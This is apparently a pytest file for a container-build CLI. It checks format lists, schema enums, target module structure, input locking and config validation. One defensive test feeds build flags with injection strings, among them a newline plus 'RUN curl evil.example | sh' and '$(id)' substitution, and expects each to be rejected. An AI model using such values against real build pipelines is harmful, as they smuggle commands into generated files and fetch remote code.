"""One list of output formats drives the schema, the CLI, the defaults layers and the dispatcher;
every target has the same shape."""

from __future__ import annotations

import argparse
import importlib
import inspect
import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from menlo_cortex.cortexfile import formats
from menlo_cortex.cortexfile.errors import ConfigError
from menlo_cortex.cortexfile.schema import Cortexfile
from menlo_cortex.cortexfile.schema_doc import schema_document
from menlo_cortex.cortexfile.table import model_settings, settings
from menlo_cortex.images import targets
from menlo_cortex.images.targets.docker.render import certificate_blocks

from menlo_cortex.cli import build_parser


def _choices(command: str, option: str) -> list[str]:
    parser = build_parser()
    sub = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    action = next(a for a in sub.choices[command]._actions if option in a.option_strings)
    return sorted(action.choices or [])


def test_the_cli_offers_exactly_the_listed_formats() -> None:
    assert _choices("build", "--format") == formats.names()
    assert _choices("start", "--defaults") == formats.names()


def test_the_schema_enum_is_the_list() -> None:
    schema = Cortexfile.model_json_schema()
    items = schema["$defs"]["Build"]["properties"]["formats"]["items"]
    assert items["enum"] == formats.names()


@pytest.mark.parametrize("name", formats.names())
def test_every_format_has_a_target_of_the_one_shape(name: str) -> None:
    module = importlib.import_module(formats.get(name).target)
    assert module is targets.target(name)
    assert callable(module.make)
    assert callable(module.request_from)
    assert name == module.FORMAT
    for step in ("request", "plan", "build"):  # what was asked, typed -> a pure plan -> the one step with effects
        importlib.import_module(f"{module.__name__}.{step}")
    returned = inspect.signature(module.request_from, eval_str=True).return_annotation
    assert returned.__name__.endswith("Request")
    assert returned is getattr(importlib.import_module(f"{module.__name__}.request"), returned.__name__)


@pytest.mark.parametrize("name", formats.names())
def test_a_format_locks_its_inputs_exactly_when_it_declares_so(name: str) -> None:
    """Locking is declared in cortexfile/formats.py (`locks`), and a locking target has both steps."""
    module = importlib.import_module(formats.get(name).target)
    steps = {"check_locked", "lock_sections"}
    assert {step for step in steps if callable(getattr(module, step, None))} == (
        steps if formats.get(name).locks else set()
    )
    if formats.get(name).locks:
        assert targets.locking_target(name) is module
    else:
        with pytest.raises(ValueError, match=r"records no inputs in Cortexfile\.lock"):
            targets.locking_target(name)


def test_locked_refuses_a_format_that_locks_nothing(tmp_path: Path) -> None:
    options = targets.BuildOptions(file=tmp_path / "Cortexfile.yaml", locked=True)
    with pytest.raises(ConfigError) as refused:
        targets.check_formats(options, ["oci", "kube"])
    assert "Cortexfile.lock pins the inputs of docker and oci images, not of kube" in str(refused.value.diagnostics)


def test_validate_refuses_a_format_no_target_builds(
    write_cortexfile: Callable[..., Path], cortex_command: list[str]
) -> None:
    path = write_cortexfile("version: 1\nbuild:\n  formats: [docker, iso]\n")
    command = [*cortex_command, "validate", "-f", str(path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    expected = "build.formats[1]: `cortex build` makes no `iso` output; it makes: disk, docker, kube, oci, systemd"
    assert f"{path}:3:21: {expected}" in (done.stderr + done.stdout)


def test_a_view_is_derived_without_reading_the_file_again(write_cortexfile: Callable[..., Path]) -> None:
    path = write_cortexfile("version: 1\nserver:\n  port: 4000\n")
    views = targets.read_views(path, {})
    path.write_text("not: [a cortexfile", encoding="utf-8")  # a second read would fail
    docker = views.of("docker")
    assert docker.config.server.host == "0.0.0.0"
    assert docker.config.server.port == 4000
    assert views.host.config.server.host == "127.0.0.1"
    assert docker.origin(("server", "host")).source == "format docker default"


def test_the_schema_document_says_how_each_setting_reloads() -> None:
    document = schema_document()
    assert document["$defs"]["Limits"]["properties"]["max_connections"]["reload"] == "listener"
    assert document["$defs"]["Limits"]["properties"]["queue_size"]["reload"] == "live"
    assert document["$defs"]["Model"]["properties"]["preset"]["reload"] == "live"
    assert document["properties"]["version"]["reload"] == "inert"
    assert json.dumps(document).count('"reload": "') == len(settings()) + len(model_settings())


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--base-image", "debian\nRUN curl evil.example | sh"),
        ("--builder-image", "debian:12 AS x"),
        ("--tag", "cortex:$(id)"),
        ("--platform", "linux/amd64\nRUN id"),
    ],
)
def test_build_flags_that_reach_a_generated_file_are_checked_first(
    flag: str, value: str, tmp_path: Path, cortex_command: list[str]
) -> None:
    cortexfile = tmp_path / "Cortexfile.yaml"
    cortexfile.write_text("version: 1\nmodels: []\n", encoding="utf-8")
    context = tmp_path / "context"
    command = [*cortex_command, "build", "-f", str(cortexfile), "--context-only", "--context-dir", str(context)]
    done = subprocess.run([*command, flag, value], capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode == 2, done.stderr
    assert f"flag {flag}: {value!r} is not" in done.stderr
    assert not context.exists()


def test_a_ca_file_must_hold_certificates_and_only_they_reach_the_build(
    write_cortexfile: Callable[..., Path], cortex_command: list[str], tmp_path: Path
) -> None:
    """build.network.ca_certificates is copied into the build: a credentials file named there must not be."""
    credentials = tmp_path / "config.json"
    credentials.write_text('{"auths": {"registry.example": {"auth": "c2VjcmV0"}}}', encoding="utf-8")
    path = write_cortexfile(f"version: 1\nbuild:\n  network:\n    ca_certificates: [{credentials}]\n")
    command = [*cortex_command, "validate", "-f", str(path), "--preflight", "build"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert f"build.network.ca_certificates[0]: {credentials} holds no PEM certificate" in done.stderr
    block = b"-----BEGIN CERTIFICATE-----\nTUlJ\n-----END CERTIFICATE-----"
    assert certificate_blocks(b"secret=1\n" + block + b"\ntrailing secret\n") == [block]
